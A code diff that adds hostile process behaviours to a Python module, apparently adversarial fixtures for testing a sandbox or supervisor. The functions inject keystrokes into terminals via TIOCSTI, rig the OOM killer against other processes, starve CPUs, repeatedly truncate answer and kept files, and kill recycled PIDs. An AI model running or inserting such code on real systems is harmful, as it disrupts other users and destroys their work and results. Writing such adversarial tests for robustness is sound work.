@@ -11,6 +11,7 @@ import os
 import resource
 import signal
 import sys
+import termios
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -147,6 +148,65 @@ def lease() -> None:
             fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
     begin()
     time.sleep(3600)
+
+
+def type() -> None:  # noqa: A001 - the name of a trick
+    """Put words into the input of each terminal, as if they were typed, and write them there."""
+    for _ in others():
+        for path in [*Path("/dev/pts").glob("[0-9]*"), Path("/dev/tty"), Path("/dev/console")]:
+            with contextlib.suppress(OSError), path.open("wb", buffering=0) as terminal:
+                terminal.write(b"\nexit 0\n")
+                for byte in b"\nexit 0\n":
+                    fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))
+
+
+def favour() -> None:
+    """Have the kernel end others first when memory runs out, and let it run out."""
+    if not os.fork():
+        fill()
+    for pid in others():
+        for own, score in ((pid, "1000"), (os.getpid(), "-1000")):
+            with contextlib.suppress(OSError):
+                Path(f"/proc/{own}/oom_score_adj").write_text(score)
+
+
+def slow() -> None:
+    """Keep every processor busy, and let others run last."""
+    for _ in range(8):
+        if not os.fork():
+            while True:
+                pass
+    for pid in others():
+        with contextlib.suppress(OSError):
+            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
+        with contextlib.suppress(OSError):
+            os.setpriority(os.PRIO_PROCESS, pid, 19)
+
+
+def grow() -> None:
+    """Write behind what is read, and take it away."""
+    begin()
+    names = [HOME / name for name in ("answer.txt", "kept.txt", "kept.json", "kept.yaml")]
+    while True:
+        for path in names:
+            with contextlib.suppress(OSError), path.open("ab") as file:
+                file.write(b" " * 4096)
+                file.truncate(0)
+
+
+def recycle() -> None:
+    """Begin and end processes so fast that each number comes again, and signal every one that comes."""
+    begin()
+    while True:
+        try:
+            if not (pid := os.fork()):
+                os._exit(0)
+        except OSError:
+            continue
+        os.waitpid(pid, 0)
+        for number in (pid, pid + 1, pid + 2, pid + 3):
+            send(number, signal.SIGSTOP)
+            send(number, signal.SIGKILL)
 
 
 def fork() -> None:
